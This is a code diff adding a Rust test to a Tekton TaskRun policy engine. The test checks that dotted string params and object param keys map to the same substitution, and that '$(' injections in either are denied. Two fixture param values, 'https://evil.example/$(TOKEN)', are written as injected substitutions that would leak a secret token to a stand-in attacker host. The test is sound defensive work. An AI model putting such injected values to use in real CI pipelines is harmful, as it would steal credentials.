@@ -178,3 +178,45 @@ fn a_relabelled_taskruns_pod_still_keeps_the_authors_containers_off_org_volumes(
         );
     }
 }
+
+/// Round 5: Tekton keys a string param named `git.url` and the key `url` of an object param
+/// `git` alike (`params.git.url`), the TaskRun's value winning: an org step that uses
+/// `$(params.git.url)` uses both, and a `$(` in either is refused.
+#[test]
+fn a_dotted_string_param_is_the_object_key_an_org_step_uses() {
+    let set = policies(
+        r#"
+apiVersion: bookend.dev/v1alpha1
+kind: ClusterStepPolicy
+metadata: {name: org-upload}
+spec:
+  postSteps:
+  - name: bookend-upload
+    image: curl
+    command: [/upload]
+    env:
+    - {name: TOKEN, valueFrom: {secretKeyRef: {name: t, key: t}}}
+    - {name: SBOM_URL, value: "$(params.sbom.url)"}
+"#,
+    );
+    let taskrun = |params: Value| {
+        json!({"apiVersion": "tekton.dev/v1", "kind": "TaskRun",
+            "metadata": {"name": "r", "namespace": "team-a"},
+            "spec": {"params": params,
+                     "taskSpec": {"params": [{"name": "sbom", "type": "object",
+                                              "properties": {"url": {"type": "string"}},
+                                              "default": {"url": "https://sbom.example.com"}}],
+                                  "steps": [{"name": "build", "image": "alpine", "script": "true"}]}}})
+    };
+    assert_eq!(run(&set, &taskrun(json!([]))).outcome, Outcome::Mutated);
+    denied(
+        &set,
+        &taskrun(json!([{"name": "sbom.url", "value": "https://evil.example/$(TOKEN)"}])),
+        "spec.params[0].value",
+    );
+    denied(
+        &set,
+        &taskrun(json!([{"name": "sbom", "value": {"url": "https://evil.example/$(TOKEN)"}}])),
+        "spec.params[0].value",
+    );
+}
